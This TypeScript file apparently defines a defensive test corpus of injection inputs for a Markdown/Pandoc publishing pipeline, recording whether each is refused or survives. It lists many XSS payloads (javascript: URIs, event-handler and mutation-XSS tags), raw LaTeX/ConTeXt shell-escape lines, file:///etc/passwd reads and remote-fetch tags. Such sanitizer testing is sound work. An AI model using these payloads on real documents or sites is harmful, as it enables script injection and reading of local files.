import type { Attack } from "./attack.ts";

const slug = (text: string): string =>
  text
    .toLowerCase()
    .replace(/[^a-z0-9]+/g, "-")
    .replace(/^-|-$/g, "");

/** Addresses that are no web address; a reader's program would run or open them. */
const schemes: readonly string[] = [
  "javascript:alert(1)",
  "JaVaScRiPt:alert(1)",
  "java%0ascript:alert(1)",
  "vbscript:msgbox(1)",
  "data:text/html,<script>run()</script>",
  "data:image/svg+xml,<svg onload=run()>",
  "file:///etc/passwd",
  "ftp://{{HOST}}/a",
  "blob:https://a/b",
  "ms-word:ofe|u|http://a/b.docx",
  "vscode://file/etc/passwd",
  "tel:+123",
  "view-source:https://a/",
  "feed:javascript:run()",
];

const links: readonly Attack[] = schemes.flatMap((address, index): readonly Attack[] => [
  {
    name: `S4/link-${index + 1}-${slug(address.slice(0, 18))}`,
    tries: `A link to \`${address}\`.`,
    goal: "run",
    body: `[here](<${address}>)`,
    refused: null,
    survives: true,
    weakened: /^(?:java%|ms-word|data:image)/.test(address) ? [] : ["addresses-of-links"],
  },
]);

const written: readonly Attack[] = [
  ["reference", "[here][a]\n\n[a]: javascript:run()"],
  ["angle-brackets", "<javascript:run()>"],
  ["entities", "[here](java&#x73;cript:run())"],
  ["named-entities", "[here](javascript&colon;run())"],
  ["tag", '<a href="javascript:run()">here</a>'],
  ["tag-in-capitals", "<A HREF='JAVASCRIPT:run()'>here</A>"],
  ["tag-without-quotes", "<a href=javascript:run()>here</a>"],
].map(([name, body]) => ({
  name: `S4/link-by-${name}`,
  tries: "A link that runs a script, in another notation.",
  goal: "run",
  body: String(body),
  refused: null,
  survives: true,
  weakened: name === "angle-brackets" ? [] : ["addresses-of-links"],
}));

const fetches: readonly Attack[] = [
  ["picture", "![a boat]({{HTTP}}/a.png)", true],
  ["picture-in-capitals", "![a boat](HTTP://{{HOST}}/a.png)", true],
  ["picture-without-scheme", "![a boat](//{{HOST}}/a.png)", true],
  ["picture-tag", '<img src="{{HTTP}}/a.png" alt="a boat">', true],
  ["picture-by-reference", "![a boat][a]\n\n[a]: {{HTTP}}/a.png", true],
  ["picture-as-data", "![a boat](data:image/svg+xml,%3Csvg%20onload=run()%3E)", true],
  ["picture-by-shortcode", "{{< video {{HTTP}}/a.mp4 >}}", false],
  ["picture-by-figure", '<figure><img src="{{HTTP}}/a.png"><figcaption>A boat</figcaption></figure>', true],
].map(([name, body, isPicture]) => ({
  name: `S4/fetch-${name}`,
  tries: "Shows what lies on a server.",
  goal: "fetch",
  body: String(body),
  refused: isPicture === true ? ["figures/file-is-local", 1] : null,
  survives: true,
  weakened: [],
}));

/** HTML that runs, loads or frames, as authors may type it. */
const tags: readonly string[] = [
  "<script>run()</script>",
  '<script src="{{HTTP}}/a.js"></script>',
  '<img src="x" onerror="run()">',
  '<svg onload="run()"><script>run()</script></svg>',
  '<iframe src="{{HTTP}}/"></iframe>',
  '<iframe srcdoc="<script>run()</script>"></iframe>',
  '<object data="{{HTTP}}/a.swf"></object>',
  '<embed src="{{HTTP}}/a.swf">',
  '<base href="{{HTTP}}/">',
  '<meta http-equiv="refresh" content="0;url={{HTTP}}/">',
  '<form action="{{HTTP}}/"><input autofocus onfocus="run()"></form>',
  '<style>@import "{{HTTP}}/a.css";</style>',
  '<link rel="stylesheet" href="{{HTTP}}/a.css">',
  '<video poster="{{HTTP}}/a.png" onerror="run()"><source src="{{HTTP}}/a.mp4"></video>',
  '<audio src="{{HTTP}}/a.mp3" autoplay></audio>',
  '<details open ontoggle="run()"><summary>a</summary></details>',
  '<body onload="run()">',
  '<math href="javascript:run()"><mi>x</mi></math>',
  '<table background="{{HTTP}}/a.png"><tr><td>a</td></tr></table>',
  '<div style="background:url({{HTTP}}/a.png)">a</div>',
  '<p onclick="run()">a</p>',
  '<a href="#" onmouseover="run()">a</a>',
  '<b onclick="run()" title="a">a</b>',
  '<sup style="background:url({{HTTP}}/a)">a</sup>',
  '<noscript><p title="</noscript><img src=x onerror=run()>"></noscript>',
  "<math><mtext><table><mglyph><style><img src=x onerror=run()></style></mglyph></table></mtext></math>",
  '<svg></p><style><a title="</style><img src=x onerror=run()>"></svg>',
  "<form><math><mtext></form><form><mglyph><style></math><img src onerror=run()>",
  "<![CDATA[<script>run()</script>]]>",
  "<?php run() ?>",
  "<!--[if IE]><script>run()</script><![endif]-->",
  "<template><script>run()</script></template>",
  '<kbd id="a" onclick="run()">a</kbd>',
];

/** Those whose tags Pandoc keeps together, so that they come through where raw markup does. */
const weakenedTags = new Set([1, 2, 5, 7, 12, 21, 22, 23, 33]);

/** What is said of one for another reason: "@import" looks like a citation. */
const judgedTags: Readonly<Record<number, readonly [string, number]>> = {
  3: ["figures/file-exists", 1],
  12: ["citations/key-is-known", 1],
  22: ["links/internal-target-exists", 1],
  26: ["figures/file-exists", 1],
};

const markup: readonly Attack[] = tags.flatMap((tag, index): readonly Attack[] => [
  {
    name: `S4/tag-${index + 1}-${slug(tag).slice(0, 24)}`,
    tries: `HTML in the text: \`${tag.replaceAll("`", "'")}\`.`,
    goal: /^<(?:script src|iframe src=|object|embed|base|meta|style|link|video|audio|table|div style|sup style)/.test(
      tag,
    )
      ? "fetch"
      : "run",
    body: `Before.\n\n${tag}\n\nAnd ${tag} inside.`,
    refused: judgedTags[index + 1] ?? null,
    survives: true,
    weakened: weakenedTags.has(index + 1) ? ["raw-markup"] : [],
  },
]);

const raw: readonly Attack[] = [
  ["html-block", "```{=html}\n<script>run()</script>\n```"],
  ["html-inline", "`<script>run()</script>`{=html}"],
  ["html5", "`<img src=x onerror=run()>`{=html5}"],
  ["epub", "```{=epub3}\n<script>run()</script>\n```"],
  ["openxml", '```{=openxml}\n<w:altChunk r:id="a"/>\n```'],
  ["latex", "```{=latex}\n\\immediate\\write18{touch owned}\n```"],
  ["context", "`\\ctxlua{os.execute('touch owned')}`{=context}"],
  ["typst", '`#read("/etc/passwd")`{=typst}'],
].map(([name, body]) => ({
  name: `S4/raw-${name}`,
  tries: "Text that goes into an edition of this form as it is.",
  goal: "run",
  body: String(body),
  refused: null,
  survives: true,
  weakened: name === "html-block" || name === "html-inline" ? ["raw-markup"] : [],
}));

const attributes: readonly Attack[] = [
  ["span-handler", "[a]{onclick='run()'}", "run"],
  ["span-style", "[a]{style='background:url({{HTTP}}/a)'}", "fetch"],
  ["link-handler", "[a](https://example.org/){onclick='run()'}", "run"],
  ["code-handler", "`a`{onclick='run()'}", "run"],
  ["heading-handler", "# Two {onclick='run()' style='background:url({{HTTP}}/a)'}\n\nText.", "run"],
  ["div-handler", "::: {.a onclick='run()'}\nText.\n:::", "run"],
  ["code-block-handler", "``` {.python onload='run()'}\npass\n```", "run"],
  ["capital-handler", "[a]{ONCLICK='run()'}", "run"],
  ["namespaced-handler", "[a]{ev:event='click' xlink:href='javascript:run()'}", "run"],
  ["source", "[a]{src='{{HTTP}}/a' href='javascript:run()' action='{{HTTP}}/'}", "run"],
  ["quotation-mark", "[a]{title='\" onclick=\"run()'}", "run"],
  ["class-of-markup", '[a]{.x"><script>run()</script>}', "run"],
  ["language", "[a]{lang='en\" onclick=\"run()'}", "run"],
].map(([name, body, goal]) => ({
  name: `S4/attribute-${name}`,
  tries: "An attribute that would run or fetch something.",
  goal: goal === "fetch" ? "fetch" : "run",
  body: String(body),
  refused: null,
  survives: true,
  weakened: /^(?:code-handler|heading|div-handler)/.test(String(name)) ? ["attributes"] : [],
}));

const ids: readonly Attack[] = [
  "__proto__",
  "constructor",
  "body",
  "pagedjs_pages",
  "toString",
  "cover",
  "nav",
].map((id) => ({
  name: `S4/id-${slug(id)}`,
  tries: `The id \`${id}\`, which programs keep for themselves.`,
  goal: "run",
  body: `# Two {#${id}}\n\nText.\n\nSee [there](#${id}) and [a]{#${id}-b}.`,
  print: id === "pagedjs_pages" || id === "body",
  refused: null,
  survives: true,
  weakened: [],
}));

export const treeAttacks: readonly Attack[] = [
  ...links,
  ...written,
  ...fetches,
  ...markup,
  ...raw,
  ...attributes,
  ...ids,
];
